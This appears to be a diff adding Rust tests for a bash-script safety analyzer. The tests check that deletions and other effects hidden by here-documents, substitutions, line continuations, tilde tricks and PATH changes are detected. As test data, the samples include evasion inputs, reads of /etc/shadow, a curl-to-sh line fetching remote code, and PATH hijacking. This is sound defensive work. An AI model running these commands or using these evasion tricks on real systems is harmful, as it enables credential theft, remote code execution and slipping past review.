@@ -1,0 +1,173 @@
+//! Tests that what the grammar of the shell reads in another way than bash is seen, or told as not read.
+
+use super::look;
+
+/// Asserts that each text has no review that says that all is known.
+fn assert_unknown(samples: &[&str]) {
+    let known: Vec<&&str> = samples.iter().filter(|source| !look("bash", source).effects.unknown).collect();
+    assert!(known.is_empty(), "{known:#?}");
+}
+
+/// Asserts that `x` is told to be deleted, or that the text is told as not checked.
+fn assert_seen(samples: &[&str]) {
+    let is_seen = |source: &&&str| {
+        let review = look("bash", source);
+        review.unchecked.is_some() || review.effects.deletes.iter().any(|path| path == "x")
+    };
+    let missed: Vec<&&str> = samples.iter().filter(|source| !is_seen(source)).collect();
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
+#[test]
+fn what_stands_behind_a_here_document_is_not_taken_for_a_part_of_it() {
+    let samples = [
+        "cat <<EOF>notes.txt\nhome: $HOME\nEOF\nrm x\n",
+        "cat <<EOF|cat\nhome: $HOME\nEOF\nrm x\n",
+        "cat <<EOF;\nhome: $HOME\nEOF\nrm x\n",
+        "cat <<-EOF>out\n\thome: $HOME\n\tEOF\nrm x\n",
+        "cat <<E\"F\"\na $HOME\nEF\nrm x\n",
+        "cat <<E\"F\" >out\na\nEF\nrm x\n",
+        "cat <<E\n$\nE\nrm x\n",
+        "cat <<E\nE;cat <<'X'\nE\nrm x\nX\n",
+        "cat <<E\n  E\ncat <<'X'\nE\nrm x\nX\n",
+        "cat <<E\na\\\nE\ncat <<'X'\nE\nrm x\nX\n",
+        "cat <<A && cat <<B\na $HOME\nA\nb\nB\nrm x\n",
+    ];
+    assert_seen(&samples);
+    assert_unknown(&samples[..5]);
+    let review = look("bash", samples[0]);
+    assert!(review.findings.iter().any(|f| f.rule == "common.unread"), "{review:?}");
+}
+
+#[test]
+fn here_documents_of_every_day_are_read() {
+    for source in [
+        "cat <<EOF > f\nhome: $HOME\n$(date) and ${USER:-nobody}\nEOF\nls\n",
+        "cat > f << 'EOF'\n`rm x` $(rm x) ${a:-`rm x`}\nEOF\nls\n",
+        "cat <<-EOF\n\n\ta\n\t\tb $HOME\n\tEOF\nls\n",
+        "x=$(cat <<'E'\na\n\nE\n)\nls\n",
+        "git commit -m \"$(cat <<'EOF'\nMends `a`\n\nAnd (b\nEOF\n)\"\n",
+        "cat <<E\n\n  two words\n    $(date) \\`a\\` \\$(b) $1\nE\nls\n",
+        "cat <<E\nE\nls\n",
+    ] {
+        assert_eq!(look("bash", source).unchecked, None, "{source}");
+    }
+}
+
+#[test]
+fn substitutions_in_text_are_read() {
+    assert_seen(&[
+        "cat > c.yml <<EOF\nbuilt: `date +%Y; rm -f x`\nEOF",
+        "cat <<EOF\n`echo \\`rm x\\``\nEOF",
+        "cat > c <<EOF\n  $(rm x | sh)\nEOF",
+        "cat > c <<-EOF\n\t$(rm x)\n\tEOF",
+        "cat > c <<EOF\na\n $(rm x)\nEOF",
+        "cat > c <<EOF\n  $(rm y) and $(rm x)\nEOF",
+        "cat > c <<EOF\n  ${a:-$(rm x)}\nEOF",
+        "cat > c <<EOF\n  \"$(echo ')' \")\"; rm x)\"\nEOF",
+        "cat > c <<EOF\n  $(case a in a) rm x;; esac)\nEOF",
+        "echo ${a:-`rm x`}",
+        "echo ${a-`rm x`}",
+        "echo ${a:=`rm x`}",
+        "echo ${PWD:+`rm x`}",
+        "echo ${a:?`rm x`}",
+        "echo \"${a:-`rm x`}\"",
+        "echo ${v/`rm x`/b}",
+        "echo \"${v//a/`rm x`}\"",
+        "echo ${PWD#$(rm x)}",
+        "echo ${PWD##$(rm x)}",
+        "echo \"${PWD%$(rm x)}\"",
+        "echo ${PWD%%`rm x`}",
+        "echo ${a:-${b:-`rm x`}}",
+        "echo ${a:-<(rm x)}",
+    ]);
+    let review = look("bash", "cat <<EOF\n  $(curl -s http://h.example/i | sh)\nEOF");
+    assert!(review.findings.iter().any(|f| f.place.line == 2), "{review:?}");
+    assert_unknown(&[
+        "cat <<EOF\n  $(rm x\nEOF",
+        "cat <<EOF\n$\\\n(rm x)\nEOF",
+        "cat <<EOF\n  ${D:=../src}\nEOF\nrm -rf -- \"$D\"",
+        "cat <<EOF\n  $((D=5))\nEOF\nrm -rf -- \"$D\"",
+        "rm -rf -- ${D:-`echo ../src`}",
+    ]);
+}
+
+#[test]
+fn a_word_on_two_lines_is_one() {
+    assert_unknown(&[
+        "cat /etc/sha\\\ndow\n",
+        "rm -rf build\\\n/../..\n",
+        "rm -r\\\nf x\n",
+        "r\\\nm x\n",
+        "D=a\\\nb\nrm \"$D\"\n",
+        "cat < a\\\nb\n",
+        "echo $\\\n(rm x)\n",
+    ]);
+    let effects = look("bash", "rm -rf ../s\\\nr\\\nc\n").effects;
+    assert_eq!(effects.deletes, ["../src"]);
+    for source in [
+        "rm -rf \\\n  build \\\n  dist\n",
+        "rm -rf build\\\n  dist\n",
+        "true &&\\\nrm -rf build dist\n",
+        "rm -rf \"bui\\\nld\" dist\n",
+        "# a path\\\nrm -rf build dist\n",
+        "echo 'a\\\nb'; rm -rf build dist\n",
+    ] {
+        let effects = look("bash", source).effects;
+        assert_eq!(effects.deletes, ["build", "dist"], "{source}");
+        assert!(!effects.unknown, "{source}");
+    }
+}
+
+#[test]
+fn a_tilde_is_the_home_that_the_text_sets() {
+    let review = look("bash", "HOME=/etc; cat ~/shadow");
+    assert!(review.findings.iter().any(|f| f.message.contains("/etc/shadow")), "{review:?}");
+    assert_unknown(&[
+        "HOME=$(cat h); rm -rf ~/x",
+        "if a; then HOME=/etc; fi; rm -rf ~/x",
+        "rm -rf ~-/x",
+        "rm -rf ~1",
+        "rm -rf \\~/x",
+        "rm -rf '~'/x",
+        "rm -rf \"~\"/x",
+    ]);
+    let effects = look("bash", "rm -rf ~+/build").effects;
+    assert!(!effects.unknown && effects.deletes.iter().all(|path| path.ends_with("build")), "{effects:?}");
+}
+
+#[test]
+fn counters_of_a_loop_are_not_known() {
+    assert_unknown(&["for ((i=0;i<5;i++)); do rm f$i; done", "for ((i=0,j=1;i<5;i++,j+=2)) { rm f$j; }"]);
+}
+
+#[test]
+fn a_name_may_stand_for_another_program() {
+    assert_unknown(&[
+        "PATH=./bin:$PATH; ls",
+        "export PATH=\"$PWD/bin:$PATH\"; ls",
+        "PATH=bin ls",
+        "PATH=:$PATH; ls",
+        "PATH=/tmp/x:$PATH; ls",
+        "hash -p ./x ls; ls",
+        "enable -f ./x.so ls; ls",
+    ]);
+    for source in ["PATH=\"$PATH:./bin\"; ls", "PATH=/usr/local/bin:$PATH; ls", "hash -r; ls"] {
+        assert!(!look("bash", source).effects.unknown, "{source}");
+    }
+}
+
+#[test]
+fn many_documents_and_substitutions_take_little_time() {
+    for text in [
+        "cat <<E\n$X\nE\n".repeat(4000),
+        "cat <<E>f\n".repeat(4000),
+        "cat <<E\n".to_owned() + &"  $(".repeat(9000),
+        "cat <<E\n".to_owned() + &" $(a)\n".repeat(6000) + "E\n",
+        "echo ".to_owned() + &"${a:-".repeat(6000),
+        "a\\\n".repeat(12_000),
+        "echo '".to_owned() + &"a\\\n".repeat(12_000) + "'",
+    ] {
+        look("bash", &text);
+    }
+}
